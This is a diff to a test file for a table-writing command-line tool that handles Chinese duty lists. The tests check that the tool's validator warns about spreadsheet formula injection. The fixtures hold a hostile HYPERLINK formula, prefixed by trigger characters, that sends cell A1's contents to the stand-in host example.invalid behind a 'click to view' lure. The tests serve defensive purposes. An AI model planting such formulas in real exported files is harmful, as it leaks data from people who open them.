@@ -21,6 +21,8 @@ import yaml
 from .conftest import Duty
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# A list's texts cannot hold a carriage return (validate refuses control characters).
+LIST_TRIGGERS = TRIGGERS[:5]
 PAYLOAD = '{t}HYPERLINK("http://example.invalid/?q="&A1,"点我查看{i}")'
 
 
@@ -37,7 +39,7 @@ def _texts(i: int, t: str) -> dict[str, str]:
 
 def hostile_list(path: Path) -> list[str]:
     """A valid list whose every text starts with a trigger; the texts, for the tests."""
-    texts = [_texts(i, t) for i, t in enumerate(TRIGGERS)]
+    texts = [_texts(i, t) for i, t in enumerate(LIST_TRIGGERS)]
     doc = {
         "schema": 1,
         "list": {
@@ -77,7 +79,7 @@ TASKS = [PAYLOAD.format(t=t, i=i) + "督促物业公司做好考评打分工作"
 # Every command that writes a table, with arguments that give rows of the hostile list.
 COMMANDS = {
     "list": ["list"],
-    "show": ["show", "1", "2", "3", "4", "5", "6"],
+    "show": ["show", "1", "2", "3", "4", "5"],
     "search": ["search", "点我查看"],
     "by-dept": ["by-dept", "=区部门0"],
     "by-category": ["by-category", "=类别0"],
@@ -241,14 +243,14 @@ def test_validate_warns_with_file_line_column(duty: Duty, hostile: tuple[Path, l
     r = duty("validate", str(path))
     assert r.exit_code == 0, r.output  # a warning, not an error
     warned = [line for line in r.stderr.splitlines() if "警告" in line]
-    # 6 categories, 6 departments, and 4 texts in each of the 6 items.
-    assert len(warned) == 36, r.stderr
+    # 5 categories, 5 departments, and 4 texts in each of the 5 items.
+    assert len(warned) == 30, r.stderr
     text = path.read_text(encoding="utf-8").splitlines()
     for line in warned:
         _, number, column = line.split(":")[:3]
         # The place named holds the text's first characters (the trigger, or its escape).
         at = text[int(number) - 1][int(column) - 1 :]
-        assert at.startswith(("'=", "'+", "'-", "'@", "=", "+", "-", "@", '"\\t', '"\\r')), at
+        assert at.startswith(("'=", "'+", "'-", "'@", "=", "+", "-", "@", '"\\t')), at
 
 
 def test_validate_of_a_clean_list_warns_nothing(duty: Duty) -> None:
